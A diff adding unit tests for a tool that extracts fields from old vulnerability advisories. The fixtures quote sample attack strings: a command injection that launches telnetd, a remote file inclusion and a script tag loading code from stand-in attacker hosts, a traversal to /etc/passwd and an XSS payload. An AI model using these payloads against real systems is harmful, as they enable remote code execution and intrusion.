@@ -1,0 +1,163 @@
+// Phrasings of older mailing-list advisories (oss-security, Full Disclosure, Exploit-DB
+// reposts) that the extractor missed or misread: header blocks, shell sessions, stack
+// traces, numbered sections. Each value is pinned as a triager would write it.
+import { describe, expect, it } from 'vitest';
+import { extractReport } from './extract.js';
+
+const fields = (text: string, subject: string | null = null) =>
+  Object.fromEntries(Object.entries(extractReport({ text, subject }).fields).map(([k, v]) => [k, (v as { value: unknown }).value]));
+
+describe('advisory header blocks', () => {
+  it("reads a right-aligned 'key: value' header: its 'by:' is the credit, its 'impact:' score is no impact", () => {
+    const text = [
+      '              title: SQL Injection',
+      '            product: WordPress WP Symposium Plugin',
+      ' vulnerable version: 15.1 (and probably below)',
+      '      fixed version: 15.4',
+      '             impact: CVSS Base Score 7.5 (AV:N/AC:L/Au:N/C:P/I:P/A:P)',
+      '                 by: Hannes Trunde',
+    ].join('\n');
+    const f = fields(text);
+    expect(f.credit).toEqual({ kind: 'name', name: 'Hannes Trunde' });
+    expect(f.impact).toBeUndefined();
+    expect(f.cvss).toMatchObject({ vector: 'AV:N/AC:L/Au:N/C:P/I:P/A:P', version: '2.0', score: 7.5 });
+    expect(f.fixedVersion).toBe('15.4');
+  });
+
+  it("takes an 'Impact:' line that only names a type for the type, and 'System Affected:' for the component", () => {
+    const f = fields(' * System Affected: Adobe ColdFusion 2018\n * Impact: Unrestricted file upload\n');
+    expect(f.vulnType).toBe('unrestricted file upload');
+    expect(f.impact).toBeUndefined();
+    expect(f.component).toBe('Adobe ColdFusion 2018'); // a year in a name stays: 'Windows Server 2019'
+  });
+
+  it("credits the name, not the team after an '@' nor the handle after 'aka'", () => {
+    expect(fields('# Exploit Author: Qian Zhang@MarvelTeam Qihoo 360\nLocal root.').credit).toEqual({ kind: 'name', name: 'Qian Zhang' });
+    expect(fields('Author: Alex Hernandez aka alt3kx:\nAccess bypass.').credit).toEqual({ kind: 'name', name: 'Alex Hernandez' });
+    expect(fields('Reported-by: Jane Doe <jane@example.org>\nXSS.').credit).toEqual({ kind: 'name', name: 'Jane Doe' });
+  });
+
+  it('makes a title that only names the type into the Subject that says more, or the type in the component', () => {
+    const text = '              title: SQL Injection\n            product: WordPress Tune Library Plugin\n';
+    expect(fields(text).title).toBe('SQL Injection in WordPress Tune Library Plugin');
+    expect(fields(text, 'SQL Injection in the Tune Library plugin for WordPress').title).toBe('SQL Injection in the Tune Library plugin for WordPress');
+    expect(fields('Title: SQL injection in the login form\nProduct: Acme\n').title).toBe('SQL injection in the login form');
+  });
+
+  it("does not take a root shell's '# id' in a pasted session for the report's heading", () => {
+    const text = 'usb-creator runs any helper as root.\n\n$ /tmp/test\n# id\neuid=0(root) groups=0(root)\n';
+    expect(fields(text, null).title).not.toBe('id');
+  });
+
+  it("takes no title from a sanitizer's SUMMARY line and no mitigation from a heading that says there is none", () => {
+    const asan = 'Heap-buffer-overflow in catdoc 0.95\n\nSUMMARY: AddressSanitizer: heap-buffer-overflow /src/numutils.c:22 getlong\n';
+    expect(fields(asan).title).not.toMatch(/AddressSanitizer/);
+    expect(fields('XSS in search.\n\nSolution: This issue was not fixed by the vendor.\n').mitigation).toBeUndefined();
+    expect(fields('XSS in search.\n\nSolution: No solution was provided by the vendor.\n').mitigation).toBeUndefined();
+    expect(fields('XSS in search.\n\nSolution: Upgrade to 2.0.1.\n').mitigation).toBe('Upgrade to 2.0.1.');
+  });
+
+  it("does not take a version given as 'Patched in:' for an affected one", () => {
+    expect(fields('Ubuntu Trusty: usb-creator 0.2.56.3ubuntu is affected (Patched in: 0.2.56.3ubuntu0.1)').affectedVersions).toBe('0.2.56.3ubuntu');
+  });
+
+  it('takes no PoC from quoted product code or a stack trace, and takes the command typed at a prompt before the crash', () => {
+    const quoted =
+      'Vulnerable source code:\nResourceService.java\n```\npublic void mdUpload(MdUploadRequest request, MultipartFile file) {\n  save(file);\n}\n```\n';
+    expect(fields(quoted).poc).toBeUndefined();
+    const crash = [
+      'Heap-buffer-overflow in catdoc 0.95. ASAN output:',
+      '',
+      'john@fuzzing:~/catdoc/out/crashes$ catdoc id:000001,sig:06',
+      '==4172==ERROR: AddressSanitizer: heap-buffer-overflow on address 0xb5f01618',
+      '    0 0x805f498 in getlong /home/john/catdoc/src/numutils.c:22',
+      '    1 0x8064aae in ole_init /home/john/catdoc/src/ole.c:254',
+    ].join('\n');
+    expect(fields(crash).poc).toBe('catdoc id:000001,sig:06');
+    const exploit = 'PoC:\n```\ncurl -d "name=<script>alert(1)</script>" https://shop.example.com/search\n```\n';
+    expect(fields(exploit).poc).toMatch(/^curl -d/);
+  });
+
+  it("does not read a fix list under an underlined 'Solution - Fix & Patch:' heading, a describing list or a program's output as steps", () => {
+    const fix =
+      'SQL injection in the user form.\n\nSolution - Fix & Patch:\n=======================\n1. Disallow sql-errors to be displayed.\n2. Use prepared statement to protect the sql query.\n';
+    const f = fields(fix);
+    expect(f.steps).toBeUndefined();
+    expect(f.mitigation).toMatch(/^1\. Disallow sql-errors/);
+    expect(fields('Details:\n\n1) The first problem occurs in the parser.\n2) The second problem occurs in send().\n').steps).toBeUndefined();
+    expect(fields('user@ubuntu:~/poc$ ./pwn\npwn begin, let the bullets fly . . .\ntrigger modified tty_release . . .\n').steps).toBeUndefined();
+    // A real numbered list of actions stays the steps.
+    expect(fields('1. Log in as a normal user.\n2. Open /admin/users.\n').steps).toMatch(/^1\. Log in/);
+  });
+
+  it('reads user enumeration as an information disclosure, and does not ask its type', () => {
+    expect(fields('User Enumeration using Open SSHD: by sending large passwords, a remote user can enumerate users.').vulnType).toBe('information disclosure');
+  });
+
+  it("reads 'Date Published:' as the disclosure date of a report that is out, 'array overrun' as a buffer overflow", () => {
+    const f = fields('Date Reported: 25/06/2007\nDate Published: 05/03/2008\n\nMail messages run any javascript.');
+    expect(f.disclosureDate).toBe('2008-03-05');
+    expect(f.public).toBe(true);
+    expect(fields('[ SeaMonkey 1.1.8 Remote Array Overrun (Arbitrary code execution) ]').vulnType).toBe('buffer overflow');
+  });
+
+  it("takes Core Security's '/-----' … '-----/' fences for code, and no by-line for the title", () => {
+    const text =
+      '>> Multiple vulnerabilities in Acme Manager\n>> Discovered by Jane Doe (jane@example.org), Acme Security\n=========\n\nPoC:\n/-----\nGET /cgi-bin/admin/servetest?cmd=smtp&ServerName=1.1.1.1;/usr/sbin/telnetd; HTTP/1.1\n-----/\n';
+    const f = fields(text);
+    expect(f.poc).toMatch(/^GET \/cgi-bin\/admin\/servetest/);
+    expect(f.title).not.toMatch(/Discovered by/);
+  });
+
+  it("leaves out the attacker's server, download and source-browser links and the lines under 'Original URL:'", () => {
+    const text = [
+      'Original URL:',
+      'http://securityreason.com/achievement_securityalert/71',
+      '',
+      'PoC: http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
+      'Fix: http://www.openbsd.org/cgi-bin/cvsweb/src/lib/libc/gdtoa/sum.c and https://sourceforge.net/projects/pandora/files/3.1.1/',
+      '<script src=http://attacker.com/joom163.js></script>',
+    ].join('\n');
+    expect(extractReport({ text, subject: null }).fields.locations?.value).toEqual([
+      'http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
+    ]);
+  });
+
+  it('takes a request line that wraps its HTTP version for a PoC, not for a step', () => {
+    const f = fields('Request\n\nPOST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm\nHTTP/1.1\nHost: hostname:portno\n');
+    expect(f.poc).toMatch(/^POST \/cf_scripts/);
+    expect(f.steps).toBeUndefined();
+  });
+
+  it("credits an advisory signed with its author's full name alone on the last line, not a sign-off", () => {
+    expect(fields('User enumeration in sshd.\n\nValid users take longer.\n\nEddie Harari\n').credit).toEqual({ kind: 'name', name: 'Eddie Harari' });
+    expect(fields('Zip slip in restore.\n\nThanks,\nAiko\n').credit).toBeUndefined();
+    expect(fields('Zip slip in restore.\n\nBest Regards\n').credit).toBeUndefined();
+  });
+
+  it('takes the versions labelled as affected over a version read off the product line', () => {
+    expect(fields('Software: WebCT Campus Edition 4.x (http://secunia.com/product/3280/)\nAffected Version: 4.1.5.8\n').affectedVersions).toBe('4.1.5.8');
+    expect(fields('Product: SmartLock Hub firmware 2.2.7\n').affectedVersions).toBe('2.2.7');
+  });
+
+  it("reads more outcomes said without an attacker, and ends a 'Label: value' line's value at the next label", () => {
+    expect(fields('The desktop ships a world-writeable /etc/rc.d/rc.sysinit which can be abused to execute commands on boot.').impact).toMatch(
+      /abused to execute commands/,
+    );
+    expect(fields('A blind sql injection attack can be performed within the forum feature to obtain sensitive information from the database.').impact).toMatch(
+      /obtain sensitive information/,
+    );
+    expect(fields('The length wraps around, resulting in OOB write.').impact).toMatch(/OOB write/);
+    expect(fields('When the administrator opens the page, it can add the administrator account.').impact).toMatch(/add the administrator account/);
+    expect(fields('Impact: Code execution, Security bypass\nRemotely Exploitable: Yes\nCVE Name: CVE-2013-2578\n').impact).toBe(
+      'Code execution, Security bypass',
+    );
+  });
+
+  it("takes a 'PoC:' value from its line or the next, but reads a fenced block after it whole", () => {
+    expect(fields('Proof of concept:\n\nhttp://host/pandora_console/ajax.php?page=../../../../etc/passwd\n').poc).toMatch(/^http:\/\/host\/pandora_console/);
+    const fenced =
+      'It allows uploads as shown in the following Python PoC:\n\n/-----\nimport requests\nrequests.post("http://192.168.1.100/cgi-bin/uploadfile")\n-----/\n';
+    expect(fields(fenced).poc).toMatch(/^import requests\nrequests\.post/);
+  });
+});
